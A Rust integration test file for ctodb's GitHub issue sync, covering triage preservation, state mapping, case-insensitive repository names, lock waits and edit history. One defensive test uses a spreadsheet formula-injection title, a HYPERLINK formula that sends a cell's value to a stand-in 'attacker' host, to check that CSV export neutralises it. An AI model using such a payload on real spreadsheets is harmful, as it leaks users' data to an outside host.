//! A GitHub re-sync keeps what people decided in ctodb (SPEC §9): a field is taken from
//! upstream only when upstream changed it since the last sync; status follows upstream's
//! state along the workflow (completed → closed, not planned or duplicate → deferred,
//! reopened → pending); logins and owner/name match whatever their case.

use std::path::Path;

use serde_json::{json, Value};

use std::process::Stdio;
use std::time::Duration;

use crate::common::{ctodb_command, eventually, finish_within, spawn_paused, CliOutput, TestDb};

const AS_OF: &str = "2026-11-25T12:00:00Z";

fn demo(name: &str) -> TestDb {
    let db = TestDb::new(name);
    db.run_status(&["seed", "--as-of", AS_OF]);
    db
}

/// One issue of acme/api, as the REST API gives it.
fn issue(number: u32, state: &str, reason: Option<&str>, labels: &[&str], closed_at: Option<&str>) -> Value {
    json!({
        "html_url": format!("https://github.com/acme/api/issues/{number}"),
        "repository_url": "https://api.github.com/repos/acme/api",
        "number": number,
        "title": format!("Issue {number}"),
        "body": "steps to reproduce",
        "labels": labels.iter().map(|name| json!({"name": name})).collect::<Vec<_>>(),
        "state": state,
        "state_reason": reason,
        "created_at": "2026-11-01T09:00:00Z",
        "closed_at": closed_at,
        "user": {"login": "GHopper"},
        "assignee": null,
    })
}

/// Runs `import github` of acme/api (spelled `repo_name`) and these issues, with `extra`
/// options, as CSV.
fn import_github(db: &TestDb, dir: &Path, repo_name: &str, issues: &[Value], extra: &[&str]) -> CliOutput {
    let repos = dir.join("repos.json");
    std::fs::write(
        &repos,
        json!([{"full_name": repo_name, "name": "api", "created_at": "2026-01-01T00:00:00Z"}]).to_string(),
    )
    .unwrap();
    let file = dir.join("issues.json");
    std::fs::write(&file, Value::Array(issues.to_vec()).to_string()).unwrap();
    let mut args =
        vec!["import", "github", "--repos", repos.to_str().unwrap(), "--issues", file.to_str().unwrap()];
    args.extend(extra);
    args.extend(["-f", "csv"]);
    db.ctodb(&args)
}

/// Syncs acme/api (spelled `repo_name`) and these issues; returns the bugs result row
/// (rows, inserted, updated, unchanged).
fn sync(db: &TestDb, dir: &Path, repo_name: &str, issues: &[Value]) -> (i64, i64, i64, i64) {
    let out = import_github(db, dir, repo_name, issues, &[]);
    let stdout = out.ok();
    let row = stdout.lines().nth(2).unwrap_or_default().to_string();
    let fields: Vec<i64> = row.rsplitn(6, ',').skip(1).take(4).map(|n| n.parse().unwrap()).collect();
    (fields[3], fields[2], fields[1], fields[0])
}

/// (status, severity, resolved_at, assignee e-mail, title) of issue `number`'s bug.
fn bug(db: &TestDb, number: u32) -> (String, String, Option<String>, Option<String>, String) {
    let row = db
        .client()
        .query_one(
            "SELECT b.status::text, b.severity::text,
                    to_char(b.resolved_at AT TIME ZONE 'UTC', 'YYYY-MM-DD HH24:MI'), u.email, b.title
             FROM bugs b LEFT JOIN users u ON u.id = b.assignee_id WHERE b.external_id = $1",
            &[&format!("https://github.com/acme/api/issues/{number}")],
        )
        .unwrap();
    (row.get(0), row.get(1), row.get(2), row.get(3), row.get(4))
}

fn number_of(db: &TestDb, issue: u32) -> String {
    db.count(&format!(
        "SELECT bug_number FROM bugs WHERE external_id = 'https://github.com/acme/api/issues/{issue}'"
    ))
    .to_string()
}

#[test]
fn a_resync_of_unchanged_upstream_reverts_no_triage_and_a_relabel_changes_the_severity_only() {
    let db = demo("triage_kept");
    let dir = tempfile::tempdir().unwrap();
    let open = [issue(1, "open", None, &["bug"], None)];
    assert_eq!(sync(&db, dir.path(), "acme/api", &open), (1, 1, 0, 0));
    let n = number_of(&db, 1);
    for step in [
        &["--status", "in_progress"][..],
        &["--status", "verified"],
        &["--severity", "critical"],
        &["--assignee", "ada@ctodb.dev"],
    ] {
        db.run_status(&[&["bug", "update", n.as_str()][..], step].concat());
    }
    db.client()
        .batch_execute(&format!("UPDATE bugs SET title = 'Login fails on Safari' WHERE bug_number = {n}"))
        .unwrap();
    let triaged = bug(&db, 1);
    let history = db.count("SELECT count(*) FROM bug_history");
    // upstream unchanged: nothing people did is undone, and nothing is written
    assert_eq!(sync(&db, dir.path(), "acme/api", &open), (1, 0, 0, 1));
    assert_eq!(bug(&db, 1), triaged);
    assert_eq!(db.count("SELECT count(*) FROM bug_history"), history);
    // upstream relabels: the severity follows, the rest stays
    let relabelled = [issue(1, "open", None, &["bug", "p1"], None)];
    assert_eq!(sync(&db, dir.path(), "acme/api", &relabelled), (1, 0, 1, 0));
    assert_eq!(
        bug(&db, 1),
        (
            "verified".to_string(),
            "high".to_string(),
            triaged.2.clone(),
            Some("ada@ctodb.dev".to_string()),
            "Login fails on Safari".to_string()
        )
    );
}

#[test]
fn every_state_reason_moves_the_bug_along_the_workflow() {
    let db = demo("triage_states");
    let dir = tempfile::tempdir().unwrap();
    let closed = "2026-11-20T10:00:00Z";
    sync(
        &db,
        dir.path(),
        "acme/api",
        &[
            issue(1, "open", None, &["bug"], None),
            issue(2, "open", None, &["bug"], None),
            issue(3, "open", None, &["bug"], None),
            issue(4, "closed", Some("not_planned"), &["bug"], Some(closed)),
        ],
    );
    let n2 = number_of(&db, 2);
    db.run_status(&["bug", "update", &n2, "--status", "in_progress"]);
    let counts = sync(
        &db,
        dir.path(),
        "acme/api",
        &[
            issue(1, "closed", Some("completed"), &["bug"], Some(closed)),
            issue(2, "closed", Some("not_planned"), &["bug"], Some(closed)),
            issue(3, "closed", Some("duplicate"), &["bug"], Some(closed)),
            issue(4, "closed", Some("not_planned"), &["bug"], Some(closed)),
        ],
    );
    assert_eq!(counts, (4, 0, 3, 1));
    let state = |n| {
        let (status, _, resolved, _, _) = bug(&db, n);
        (status, resolved)
    };
    let resolved = Some("2026-11-20 10:00".to_string());
    assert_eq!(state(1), ("closed".to_string(), resolved.clone()));
    assert_eq!(state(2), ("deferred".to_string(), None));
    assert_eq!(state(3), ("deferred".to_string(), None));
    assert_eq!(state(4), ("deferred".to_string(), None));
    // deferred bugs count neither in MTTR nor in SLA compliance: they are not resolved
    assert_eq!(
        db.count("SELECT count(*) FROM bugs WHERE external_id LIKE '%acme/api%' AND resolved_at IS NOT NULL"),
        1
    );
    // reopened upstream: pending again, no longer resolved
    sync(
        &db,
        dir.path(),
        "acme/api",
        &[
            issue(1, "open", Some("reopened"), &["bug"], None),
            issue(2, "open", Some("reopened"), &["bug"], None),
            issue(3, "closed", Some("duplicate"), &["bug"], Some(closed)),
            issue(4, "closed", Some("not_planned"), &["bug"], Some(closed)),
        ],
    );
    assert_eq!(state(1), ("pending".to_string(), None));
    assert_eq!(state(2), ("pending".to_string(), None));
    assert_eq!(state(3), ("deferred".to_string(), None));
}

#[test]
fn github_names_match_whatever_their_case() {
    let db = demo("triage_case");
    let dir = tempfile::tempdir().unwrap();
    db.client()
        .batch_execute("UPDATE projects SET github_repo = 'Acme/API' WHERE name = 'Atlas Payments'")
        .unwrap();
    sync(&db, dir.path(), "acme/api", &[issue(1, "open", None, &["bug"], None)]);
    assert_eq!(db.count("SELECT count(*) FROM projects WHERE lower(github_repo) = 'acme/api'"), 1);
    let row = db
        .client()
        .query_one(
            "SELECT p.name, r.email FROM bugs b JOIN projects p ON p.id = b.project_id
             LEFT JOIN users r ON r.id = b.reporter_id WHERE b.external_id = 'https://github.com/acme/api/issues/1'",
            &[],
        )
        .unwrap();
    // the demo's ghopper is the issue's GHopper
    assert_eq!(
        (row.get::<_, String>(0), row.get::<_, Option<String>>(1)),
        ("Atlas Payments".to_string(), Some("grace@ctodb.dev".to_string()))
    );
    // a CSV that names the repository in another case updates that project, and another
    // project cannot take it
    let csv = dir.path().join("projects.csv");
    std::fs::write(
        &csv,
        "name,github_repo,arr\r\nAtlas Payments,ACME/Api,123.00\r\nBeacon Analytics,acme/API,1.00\r\n",
    )
    .unwrap();
    let out = db.ctodb(&["import", "csv", csv.to_str().unwrap(), "--kind", "projects"]);
    assert_eq!(out.code(), 1);
    // (CRLF line endings: Beacon is on line 3)
    let stderr = out.stderr_text();
    assert!(
        stderr.contains("projects.csv, line 3, column \"github_repo\": acme/API is also on line 2\n"),
        "{stderr}"
    );
    assert!(
        stderr.contains(
            "projects.csv, line 3, column \"github_repo\": acme/API already belongs to another project\n"
        ),
        "{stderr}"
    );
    std::fs::write(&csv, "name,github_repo,arr\r\nAtlas Payments,ACME/Api,123.00\r\n").unwrap();
    db.run(&["import", "csv", csv.to_str().unwrap(), "--kind", "projects"]);
    assert_eq!(db.count("SELECT count(*) FROM projects WHERE arr = 123.00 AND name = 'Atlas Payments'"), 1);
    // the schema holds it too
    let err = db
        .client()
        .batch_execute("UPDATE projects SET github_repo = 'ACME/API' WHERE name = 'Beacon Analytics'")
        .unwrap_err();
    assert!(
        err.to_string().contains("projects_github_repo_lower_key")
            || format!("{err:?}").contains("projects_github_repo_lower_key"),
        "{err:?}"
    );
}

#[test]
fn the_migration_names_repositories_and_logins_taken_twice_whatever_their_case() {
    let db = TestDb::new("triage_migration");
    let mut client = db.client();
    // the database as the previous migration left it, with names that differ only in case
    client
        .batch_execute(
            "DROP TABLE ctodb.github_sync;
             DROP INDEX projects_github_repo_lower_key; DROP INDEX users_github_login_lower_key;
             DELETE FROM ctodb.schema_migrations WHERE version = '20261204120000';
             INSERT INTO projects (name, github_repo) VALUES ('One', 'Acme/API'), ('Two', 'acme/api');
             INSERT INTO users (email, name, github_login) VALUES ('a@x.dev', 'A', 'Ada'), ('b@x.dev', 'B', 'ada');",
        )
        .unwrap();
    let out = db.ctodb(&["migrate"]);
    assert_eq!(out.code(), 1);
    let stderr = out.stderr_text();
    assert!(
        stderr.contains("GitHub repositories and logins are one whatever their case, and these are taken twice: acme/api (projects 'One', 'Two'); ada (users a@x.dev, b@x.dev); keep the value on one row of each"),
        "{stderr}"
    );
    assert_eq!(db.count("SELECT count(*) FROM projects WHERE lower(github_repo) = 'acme/api'"), 2);
}

#[test]
fn a_bug_update_made_while_a_sync_reads_waits_and_is_kept() {
    let db = demo("triage_race");
    let dir = tempfile::tempdir().unwrap();
    let open = [issue(1, "open", None, &["bug"], None)];
    assert_eq!(sync(&db, dir.path(), "acme/api", &open), (1, 1, 0, 0));
    let n = number_of(&db, 1);
    // the same sync again, paused right after it read the bugs' fields
    let resume = dir.path().join("resume");
    let mut command = ctodb_command(Some(&db.url));
    command.args(["import", "github", "--repos"]).arg(dir.path().join("repos.json"));
    command.arg("--issues").arg(dir.path().join("issues.json"));
    let (sync_run, _) = spawn_paused(command, "github:read", Some(&resume));
    // a person moves the bug on meanwhile: the sync holds the row, so the update waits
    let update = ctodb_command(Some(&db.url))
        .args(["bug", "update", n.as_str(), "--status", "in_progress", "--as", "ada@ctodb.dev"])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    eventually("the bug update waits for the sync's row lock", Duration::from_secs(20), || {
        db.count(&format!(
            "SELECT count(*) FROM pg_stat_activity WHERE datname = '{}' AND wait_event_type = 'Lock'",
            db.name
        )) == 1
    });
    std::fs::write(&resume, "").unwrap();
    let synced = finish_within(sync_run, Duration::from_secs(60), "the sync");
    assert_eq!(synced.code(), 0, "{}", synced.stderr_text());
    let updated = finish_within(update, Duration::from_secs(60), "the bug update");
    assert_eq!(updated.code(), 0, "{}", updated.stderr_text());
    assert_eq!(bug(&db, 1).0, "in_progress");
    let history = db.count(&format!(
        "SELECT count(*) FROM bug_history h JOIN bugs b ON b.id = h.bug_id JOIN users u ON u.id = h.changed_by
         WHERE b.bug_number = {n} AND h.field = 'status' AND h.new_value = 'in_progress' AND u.email = 'ada@ctodb.dev'"
    ));
    assert_eq!(history, 1);
}

#[test]
fn what_a_sync_changes_in_a_bugs_text_is_history_with_the_sync_as_actor() {
    let db = demo("triage_text_history");
    let dir = tempfile::tempdir().unwrap();
    assert_eq!(sync(&db, dir.path(), "acme/api", &[issue(1, "open", None, &["bug"], None)]), (1, 1, 0, 0));
    let mut renamed = issue(1, "open", None, &["bug", "ui"], None);
    renamed["title"] = json!("Issue 1 renamed upstream");
    renamed["body"] = json!("new steps");
    assert_eq!(sync(&db, dir.path(), "acme/api", &[renamed]), (1, 0, 1, 0));
    let n = number_of(&db, 1);
    let shown = db.run(&["bug", "show", n.as_str(), "-f", "csv"]);
    for change in [
        "title,Issue 1,Issue 1 renamed upstream,,import github",
        "description,steps to reproduce,new steps,,import github",
        "labels,{bug},\"{bug,ui}\",,import github",
    ] {
        assert!(shown.contains(change), "{change} not in:\n{shown}");
    }
}

#[test]
fn hostile_titles_from_github_reach_a_spreadsheet_as_text_and_round_trip() {
    let db = demo("hostile_cells");
    let dir = tempfile::tempdir().unwrap();
    let titles =
        ["=HYPERLINK(\"https://attacker/?\"&A2,\"click\")", "+1 on checkout", "-2 refunds", "@channel login"];
    let mut issues: Vec<Value> = titles
        .iter()
        .enumerate()
        .map(|(i, title)| {
            let mut issue = issue(i as u32 + 1, "open", None, &["bug"], None);
            issue["title"] = json!(title);
            issue
        })
        .collect();
    let mut long = issue(9, "open", None, &["bug"], None);
    long["body"] = json!("y".repeat(40_000));
    issues.push(long);
    assert_eq!(sync(&db, dir.path(), "acme/api", &issues), (5, 5, 0, 0));

    // CSV: each formula written as text, with a leading '
    let listed = db.run(&["bugs", "--all", "--wide", "-f", "csv"]);
    for title in titles {
        let written = format!(",\"'{}\",", title.replace('"', "\"\""));
        let plain = format!(",'{title},");
        assert!(
            listed.contains(&written) || listed.contains(&plain),
            "{title} not neutralised in:\n{listed}"
        );
    }
    assert!(!listed.contains(",=HYPERLINK") && !listed.contains(",\"=HYPERLINK"), "{listed}");
    // --csv-raw writes them as they are
    let raw = db.run(&["bugs", "--all", "--wide", "-f", "csv", "--csv-raw"]);
    assert!(raw.contains(",\"=HYPERLINK(\"\"https://attacker/?\"\"&A2,\"\"click\"\")\","), "{raw}");
    assert!(raw.contains(",+1 on checkout,"), "{raw}");
    // and ctodb's own CSV imported back changes nothing
    let file = dir.path().join("bugs.csv");
    std::fs::write(&file, &listed).unwrap();
    let out = db.ctodb(&["import", "csv", file.to_str().unwrap(), "--kind", "bugs", "-f", "csv"]);
    let counts: Vec<String> =
        out.ok().lines().nth(1).unwrap().split(',').skip(4).map(str::to_string).collect();
    assert_eq!(counts, ["0", "0", db.count("SELECT count(*) FROM bugs").to_string().as_str(), "0"]);
    for title in titles {
        assert_eq!(
            db.count(&format!("SELECT count(*) FROM bugs WHERE title = '{}'", title.replace('\'', "''"))),
            1
        );
    }

    // a workbook: the 40,000-character description is cut with a marker and one warning
    let book = dir.path().join("bugs.xlsx");
    let out = db.ctodb(&["bugs", "--all", "--wide", "-o", book.to_str().unwrap()]);
    assert_eq!(out.code(), 0, "{}", out.stderr_text());
    assert!(
        out.stderr_text().contains(
            "warning: 1 cell longer than a spreadsheet cell holds (32767 characters) was cut, marked \
             \"[…cut: N characters in all]\"; -f csv or -f json keeps the text whole"
        ),
        "{}",
        out.stderr_text()
    );
    let read = crate::common::run_python_with(&[
        "-c",
        "import sys, openpyxl\n\
         sheet = openpyxl.load_workbook(sys.argv[1]).active\n\
         header = [c.value for c in sheet[1]]\n\
         col = header.index('description')\n\
         for row in sheet.iter_rows(min_row=2, values_only=True):\n\
         \x20   if row[col] and len(row[col]) > 30000: print(len(row[col]), row[col][-34:])\n\
         titles = header.index('title')\n\
         print(sorted(r[titles] for r in sheet.iter_rows(min_row=2, values_only=True) if r[titles][0] in '=+-@'))",
        book.to_str().unwrap(),
    ]);
    assert_eq!(
        read,
        "32767 yy […cut: 40000 characters in all]\n\
         ['+1 on checkout', '-2 refunds', '=HYPERLINK(\"https://attacker/?\"&A2,\"click\")', '@channel login']\n"
    );
}

#[test]
fn a_dry_run_of_a_new_repository_counts_the_bugs_the_import_would_insert() {
    let db = demo("github_dry_run");
    let dir = tempfile::tempdir().unwrap();
    let open = [issue(1, "open", None, &["bug"], None), issue(2, "open", None, &["p1"], None)];
    let before = db.fingerprint(&["projects", "bugs", "import_logs"]);
    let out = import_github(&db, dir.path(), "acme/api", &open, &["--dry-run"]);
    let stdout = out.ok();
    assert!(stdout.contains(",projects,true,1,1,0,0,0"), "{stdout}");
    assert!(stdout.contains(",bugs,true,2,2,0,0,0"), "{stdout}");
    assert!(!out.stderr_text().contains("--repos"), "{}", out.stderr_text());
    assert_eq!(db.fingerprint(&["projects", "bugs", "import_logs"]), before, "a dry run wrote something");
}
